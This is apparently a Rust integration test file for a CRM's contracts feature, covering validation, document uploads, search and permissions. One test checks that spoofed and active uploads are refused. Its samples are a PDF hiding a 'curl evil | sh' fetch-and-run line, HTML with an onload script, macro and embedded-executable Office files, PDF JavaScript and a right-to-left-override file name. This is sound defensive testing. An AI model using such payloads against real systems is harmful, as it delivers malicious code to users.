use crm::contracts::{ContractFilter, ContractInput, ContractSort, DocumentUpload};
use crm::services::ServiceInput;
use crm::{Error, Settings};
use sha2::{Digest, Sha256};

use crate::both_backends;
use crate::support::TestCrm;
use crm::domain::id::{ContractId, ServiceId};

/// Tiny files of each accepted kind, built here so the tests need no fixtures on disk.
pub mod files {
    use crm::contracts::samples;

    pub fn pdf() -> Vec<u8> {
        samples::pdf("")
    }

    pub fn png() -> Vec<u8> {
        samples::png()
    }

    pub fn jpeg() -> Vec<u8> {
        samples::jpeg()
    }

    pub fn docx() -> Vec<u8> {
        samples::docx(&[])
    }

    pub fn odt() -> Vec<u8> {
        samples::odt(&[])
    }

    pub fn doc() -> Vec<u8> {
        samples::doc(false)
    }
}

pub async fn service(t: &TestCrm, name: &str) -> ServiceId {
    let input = ServiceInput { name: name.into(), description: String::new(), price: "1000".into() };
    t.crm.create_service(&t.admin, &input).await.expect("service").id
}

pub fn contract(name: &str, service_id: ServiceId, amount: &str) -> ContractInput {
    ContractInput {
        name: name.into(),
        service_id: Some(service_id),
        signed_on: "2025-03-01".into(),
        valid_from: "2025-03-01".into(),
        valid_to: "2026-02-28".into(),
        amount: amount.into(),
    }
}

pub fn upload(file_name: &str, bytes: Vec<u8>) -> DocumentUpload {
    DocumentUpload { file_name: file_name.into(), bytes }
}

pub fn field_errors(err: Error) -> Vec<(&'static str, &'static str)> {
    let Error::Invalid(fields) = err else { panic!("expected field errors, got {err:?}") };
    fields.iter().map(|f| (f.field, f.code)).collect()
}

fn all() -> ContractFilter {
    ContractFilter { include_archived: true, ..Default::default() }
}

both_backends! {
    async fn a_manager_creates_a_contract_with_a_pdf_and_downloads_the_same_bytes(t: TestCrm) {
        let manager = t.user("maria", &["manager"]).await;
        let seo = service(&t, "SEO").await;
        let input = ContractInput { signed_on: "28.02.2025".into(), ..contract("  Договор   № 1 ", seo, "1 250,50") };
        let created = t.crm.create_contract(&manager, &input, Some(upload("C:\\Docs\\dogovor.pdf", files::pdf()))).await.unwrap();
        assert_eq!((created.name.as_str(), created.service_name.as_str()), ("Договор № 1", "SEO"));
        assert_eq!((created.amount.kopecks(), created.signed_on.to_string()), (125_050, "2025-02-28".into()));
        assert_eq!(created.client_id, None);
        let info = created.document.expect("document details");
        assert_eq!((info.file_name.as_str(), info.media_type.as_str()), ("dogovor.pdf", "application/pdf"));
        assert_eq!(info.size_bytes, files::pdf().len() as i64);
        assert_eq!(info.sha256, format!("{:x}", Sha256::digest(files::pdf())));
        let document = t.crm.get_document(&manager, created.id).await.unwrap();
        assert_eq!(document.bytes, files::pdf());
    }

    async fn invalid_input_names_every_bad_field_and_writes_nothing(t: TestCrm) {
        let input = ContractInput { signed_on: "31.02.2025".into(), valid_to: "".into(), amount: "0".into(), ..Default::default() };
        let err = t.crm.create_contract(&t.admin, &input, Some(upload("a.pdf", vec![]))).await.unwrap_err();
        assert_eq!(
            field_errors(err),
            vec![
                ("name", "required"),
                ("service_id", "required"),
                ("signed_on", "date_invalid"),
                ("valid_from", "required"),
                ("valid_to", "required"),
                ("amount", "not_positive"),
                ("document", "file_empty"),
            ]
        );
        assert_eq!((t.count("contracts").await, t.count("contract_documents").await), (0, 0));
    }

    async fn a_validity_that_ends_before_it_starts_is_refused_on_valid_to(t: TestCrm) {
        let seo = service(&t, "SEO").await;
        let input = ContractInput { valid_from: "2025-03-02".into(), valid_to: "01.03.2025".into(), ..contract("Д-1", seo, "10") };
        let err = t.crm.create_contract(&t.admin, &input, None).await.unwrap_err();
        assert_eq!(field_errors(err), vec![("valid_to", "end_before_start")]);
        assert_eq!(t.count("contracts").await, 0);
    }

    async fn a_negative_amount_or_not_a_number_is_refused(t: TestCrm) {
        let seo = service(&t, "SEO").await;
        for (amount, code) in [("-5", "negative"), ("abc", "not_a_number"), ("", "required")] {
            let err = t.crm.create_contract(&t.admin, &contract("Д-1", seo, amount), None).await.unwrap_err();
            assert_eq!(field_errors(err), vec![("amount", code)], "{amount}");
        }
        assert_eq!(t.count("contracts").await, 0);
    }

    async fn an_unknown_or_archived_service_is_refused(t: TestCrm) {
        let old = t.crm.get_service(&t.admin, service(&t, "Old").await).await.unwrap();
        t.crm.set_service_archived(&t.admin, old.id, old.version, true).await.unwrap();
        let err = t.crm.create_contract(&t.admin, &contract("Д-1", old.id, "10"), None).await.unwrap_err();
        assert_eq!(field_errors(err), vec![("service_id", "archived")]);
        let err = t.crm.create_contract(&t.admin, &contract("Д-1", ServiceId::new(9999), "10"), None).await.unwrap_err();
        assert_eq!(field_errors(err), vec![("service_id", "unknown")]);
        assert_eq!(t.count("contracts").await, 0);
    }

    async fn an_edited_contract_may_keep_a_service_archived_since(t: TestCrm) {
        let old = service(&t, "Old").await;
        let c = t.crm.create_contract(&t.admin, &contract("Д-1", old, "10"), None).await.unwrap();
        let s = t.crm.get_service(&t.admin, old).await.unwrap();
        t.crm.set_service_archived(&t.admin, s.id, s.version, true).await.unwrap();
        let edited = t.crm.update_contract(&t.admin, c.id, c.version, &contract("Д-1", old, "20")).await.unwrap();
        assert_eq!(edited.amount.to_string(), "20.00");
    }

    async fn contract_names_are_unique_ignoring_case(t: TestCrm) {
        let seo = service(&t, "SEO").await;
        t.crm.create_contract(&t.admin, &contract("Договор А-1", seo, "10"), None).await.unwrap();
        let err = t.crm.create_contract(&t.admin, &contract("ДОГОВОР а-1", seo, "10"), None).await.unwrap_err();
        assert_eq!(field_errors(err), vec![("name", "name_taken")]);
        assert_eq!(t.count("contracts").await, 1);
    }

    async fn documents_are_recognised_by_their_content_whatever_their_name(t: TestCrm) {
        let seo = service(&t, "SEO").await;
        let cases = [
            (files::png(), "image/png"),
            (files::jpeg(), "image/jpeg"),
            (files::docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
            (files::odt(), "application/vnd.oasis.opendocument.text"),
            (files::doc(), "application/msword"),
            (files::pdf(), "application/pdf"),
        ];
        for (i, (bytes, media_type)) in cases.into_iter().enumerate() {
            let input = contract(&format!("Д-{i}"), seo, "10");
            let created = t.crm.create_contract(&t.admin, &input, Some(upload("scan.bin", bytes))).await.unwrap();
            assert_eq!(created.document.unwrap().media_type, media_type);
        }
    }

    async fn a_renamed_text_file_is_not_a_document_and_nothing_is_written(t: TestCrm) {
        let seo = service(&t, "SEO").await;
        for bytes in [b"just a text file".to_vec(), b"PK\x03\x04 some other zip".to_vec()] {
            let doc = upload("договор.pdf", bytes);
            let err = t.crm.create_contract(&t.admin, &contract("Д-1", seo, "10"), Some(doc)).await.unwrap_err();
            assert_eq!(field_errors(err), vec![("document", "file_type")]);
        }
        assert_eq!((t.count("contracts").await, t.count("contract_documents").await), (0, 0));
    }

    async fn a_spoofed_pdf_or_docx_is_refused_whole_and_nothing_is_written(t: TestCrm) {
        use crm::contracts::samples;
        let seo = service(&t, "SEO").await;
        let spoofs = [
            ("договор.pdf", b"%PDF-1.4\n<html><body onload=\"alert(1)\"></body></html>".to_vec()),
            ("договор.pdf", b"%PDF-1.4\n#!/bin/sh\ncurl evil | sh\n".to_vec()),
            ("договор.docx", samples::zip(&[("setup.exe", b"MZ... word/document.xml ...")])),
        ];
        for (name, bytes) in spoofs {
            let err = t.crm.create_contract(&t.admin, &contract("Д-1", seo, "10"), Some(upload(name, bytes))).await.unwrap_err();
            assert_eq!(field_errors(err), vec![("document", "file_broken")], "{name}");
        }
        let active = [
            ("macro.docx", samples::docx(&[("word/vbaProject.bin", b"Sub AutoOpen()")])),
            ("macro.doc", samples::doc(true)),
            ("script.pdf", samples::pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
            ("payload.docx", samples::docx(&[("word/media/run.exe", b"MZ")])),
        ];
        for (name, bytes) in active {
            let err = t.crm.create_contract(&t.admin, &contract("Д-1", seo, "10"), Some(upload(name, bytes))).await.unwrap_err();
            assert_eq!(field_errors(err), vec![("document", "file_active")], "{name}");
        }
        assert_eq!((t.count("contracts").await, t.count("contract_documents").await), (0, 0));

        // an office that needs macro documents may allow them
        let lenient = t.with_settings(Settings { allow_active_documents: true, ..Settings::default() }).await;
        let admin = lenient.sign_in("admin", crate::support::PASSWORD).await.unwrap();
        let macro_doc = upload("macro.doc", samples::doc(true));
        lenient.create_contract(&admin, &contract("Д-2", seo, "10"), Some(macro_doc)).await.expect("allowed");
    }

    async fn stored_file_names_are_safe_to_save_and_to_read(t: TestCrm) {
        let seo = service(&t, "SEO").await;
        let long = format!("{}.pdf", "Договор".repeat(40));
        for (i, (name, stored)) in [
            ("invoice\u{202e}fdp.exe.pdf", "invoicefdp.exe.pdf".to_owned()),
            ("CON.pdf", "_CON.pdf".to_owned()),
            ("акт. ", "акт".to_owned()),
        ]
        .into_iter()
        .enumerate()
        {
            let created = t
                .crm
                .create_contract(&t.admin, &contract(&format!("Д-{i}"), seo, "10"), Some(upload(name, files::pdf())))
                .await
                .unwrap();
            assert_eq!(created.document.unwrap().file_name, stored);
        }
        let created = t.crm.create_contract(&t.admin, &contract("Д-long", seo, "10"), Some(upload(&long, files::pdf()))).await.unwrap();
        let stored = created.document.unwrap().file_name;
        assert!(stored.len() <= 255 && stored.ends_with(".pdf"), "{} bytes: {stored}", stored.len());
    }

    async fn a_document_over_the_size_limit_is_refused_naming_the_limit(t: TestCrm) {
        let small = t.with_settings(Settings { max_document_bytes: 512 * 1024, ..Settings::default() }).await;
        let seo = service(&t, "SEO").await;
        let mut big = files::pdf();
        big.resize(512 * 1024 + 1, b' ');
        let err = small.create_contract(&t.admin, &contract("Д-1", seo, "10"), Some(upload("a.pdf", big))).await.unwrap_err();
        let Error::Invalid(fields) = err else { panic!("expected field errors") };
        assert_eq!((fields[0].field, fields[0].code), ("document", "file_too_large"));
        assert_eq!(fields[0].params, vec![("max", "0.5".to_string())]);
        assert_eq!(t.count("contracts").await, 0);
    }

    async fn attaching_a_document_replaces_the_old_one_and_bumps_the_version(t: TestCrm) {
        let seo = service(&t, "SEO").await;
        let c = t.crm.create_contract(&t.admin, &contract("Д-1", seo, "10"), Some(upload("a.pdf", files::pdf()))).await.unwrap();
        let c2 = t.crm.attach_document(&t.admin, c.id, c.version, upload("scan.png", files::png())).await.unwrap();
        assert_eq!(c2.version, c.version.next());
        assert_eq!(c2.document.unwrap().file_name, "scan.png");
        assert_eq!(t.crm.get_document(&t.admin, c.id).await.unwrap().bytes, files::png());
        assert_eq!(t.count("contract_documents").await, 1);
        let stale = t.crm.attach_document(&t.admin, c.id, c.version, upload("b.pdf", files::pdf())).await.unwrap_err();
        assert!(matches!(stale, Error::Conflict { .. }), "{stale:?}");
    }

    async fn a_contract_without_a_document_has_nothing_to_download(t: TestCrm) {
        let seo = service(&t, "SEO").await;
        let c = t.crm.create_contract(&t.admin, &contract("Д-1", seo, "10"), None).await.unwrap();
        assert!(c.document.is_none());
        assert_eq!(t.crm.get_document(&t.admin, c.id).await.unwrap_err().code(), "no_document");
        assert!(matches!(t.crm.get_document(&t.admin, ContractId::new(9999)).await, Err(Error::NotFound { .. })));
    }

    async fn saving_over_a_newer_version_of_a_contract_is_a_conflict(t: TestCrm) {
        let seo = service(&t, "SEO").await;
        let c = t.crm.create_contract(&t.admin, &contract("Д-1", seo, "10"), None).await.unwrap();
        t.crm.update_contract(&t.admin, c.id, c.version, &contract("Д-1", seo, "20")).await.unwrap();
        let err = t.crm.update_contract(&t.admin, c.id, c.version, &contract("Д-1", seo, "30")).await.unwrap_err();
        assert!(matches!(err, Error::Conflict { .. }), "{err:?}");
        assert_eq!(t.crm.get_contract(&t.admin, c.id).await.unwrap().amount.to_string(), "20.00");
    }

    async fn lists_search_filter_sort_and_page_with_a_total(t: TestCrm) {
        let (seo, ads) = (service(&t, "SEO").await, service(&t, "Реклама").await);
        for (name, sid, amount, signed) in [("Альфа", seo, "300", "2025-01-10"), ("Бета", ads, "100", "2025-02-10"), ("Гамма", seo, "200", "2025-03-10")] {
            let input = ContractInput { signed_on: signed.into(), ..contract(name, sid, amount) };
            t.crm.create_contract(&t.admin, &input, Some(upload("a.pdf", files::pdf()))).await.unwrap();
        }
        let names = |page: crm::Page<crm::contracts::Contract>| page.items.into_iter().map(|c| c.name).collect::<Vec<_>>();
        let page = t.crm.list_contracts(&t.admin, &ContractFilter::default()).await.unwrap();
        assert_eq!((page.total, names(page)), (3, vec!["Гамма".to_string(), "Бета".into(), "Альфа".into()]));
        // through the trigram index (three characters or more) or a scan, the same contracts
        for (search, expected) in [("АЛЬ", vec!["Альфа"]), ("ль", vec!["Альфа"]), ("а", vec!["Гамма", "Бета", "Альфа"]), ("ета", vec!["Бета"]), ("%", vec![])] {
            let filter = ContractFilter { search: search.into(), ..Default::default() };
            assert_eq!(names(t.crm.list_contracts(&t.admin, &filter).await.unwrap()), expected, "{search:?}");
        }
        let filter = ContractFilter { service_id: Some(seo), sort: ContractSort::Amount, ..Default::default() };
        assert_eq!(names(t.crm.list_contracts(&t.admin, &filter).await.unwrap()), vec!["Альфа", "Гамма"]);
        let from = chrono::NaiveDate::from_ymd_opt(2025, 2, 1);
        let filter = ContractFilter { signed_from: from, unassigned_only: true, page: crm::PageRequest::new(1, 1), ..Default::default() };
        let page = t.crm.list_contracts(&t.admin, &filter).await.unwrap();
        assert_eq!((page.total, names(page)), (2, vec!["Бета".to_string()]));
    }

    async fn an_archived_contract_leaves_the_list_and_can_come_back(t: TestCrm) {
        let seo = service(&t, "SEO").await;
        let c = t.crm.create_contract(&t.admin, &contract("Д-1", seo, "10"), None).await.unwrap();
        let c = t.crm.set_contract_archived(&t.admin, c.id, c.version, true).await.unwrap();
        assert_eq!(t.crm.list_contracts(&t.admin, &ContractFilter::default()).await.unwrap().total, 0);
        assert_eq!(t.crm.list_contracts(&t.admin, &all()).await.unwrap().total, 1);
        t.crm.set_contract_archived(&t.admin, c.id, c.version, false).await.unwrap();
        assert_eq!(t.crm.list_contracts(&t.admin, &ContractFilter::default()).await.unwrap().total, 1);
    }

    async fn an_operator_may_neither_see_nor_write_contracts(t: TestCrm) {
        let operator = t.user("olga", &["operator"]).await;
        let seo = service(&t, "SEO").await;
        let err = t.crm.create_contract(&operator, &contract("Д-1", seo, "10"), None).await.unwrap_err();
        assert!(matches!(err, Error::Forbidden("contracts.edit")), "{err:?}");
        let err = t.crm.list_contracts(&operator, &all()).await.unwrap_err();
        assert!(matches!(err, Error::Forbidden("contracts.view")), "{err:?}");
        assert_eq!(t.count("contracts").await, 0);
    }

    async fn a_picked_file_is_read_and_checked_before_any_form_is_saved(t: TestCrm) {
        let dir = tempfile::tempdir().unwrap();
        let write = |name: &str, bytes: &[u8]| {
            let path = dir.path().join(name);
            std::fs::write(&path, bytes).unwrap();
            path
        };
        let good = t.crm.read_document_file(&t.admin, write("Договор.pdf", &files::pdf())).await.unwrap();
        assert_eq!((good.file_name.as_str(), good.bytes), ("Договор.pdf", files::pdf()));

        let field_code = |e: Error| match e {
            Error::Invalid(fields) => (fields[0].field, fields[0].code),
            other => panic!("expected a field error, got {other:?}"),
        };
        let text = t.crm.read_document_file(&t.admin, write("notes.pdf", b"just text")).await.unwrap_err();
        assert_eq!(field_code(text), ("document", "file_type"));
        let small = t.with_settings(Settings { max_document_bytes: 16, ..Settings::default() }).await;
        let big = small.read_document_file(&t.admin, write("big.pdf", &files::pdf())).await.unwrap_err();
        assert_eq!(field_code(big), ("document", "file_too_large"));
        let gone = t.crm.read_document_file(&t.admin, dir.path().join("missing.pdf")).await.unwrap_err();
        assert_eq!(field_code(gone), ("document", "file_unreadable"));
    }
}

both_backends! {
    async fn the_demos_contracts_are_found_by_their_clients_name(t: TestCrm) {
        t.demo(4, 600).await;
        let clients = t.crm.list_clients(&t.admin, &crm::clients::ClientFilter::default()).await.unwrap();
        assert!(clients.items.len() >= 5, "the demo made clients");
        for client in clients.items.iter().take(5) {
            let filter = ContractFilter { search: client.full_name.clone(), ..Default::default() };
            let found = t.crm.list_contracts(&t.admin, &filter).await.unwrap();
            let theirs = found.items.iter().filter(|c| c.client_id == Some(client.id)).count() as i64;
            assert_eq!(theirs, client.contracts, "{}'s contracts, searched by their name", client.full_name);
        }
    }
}
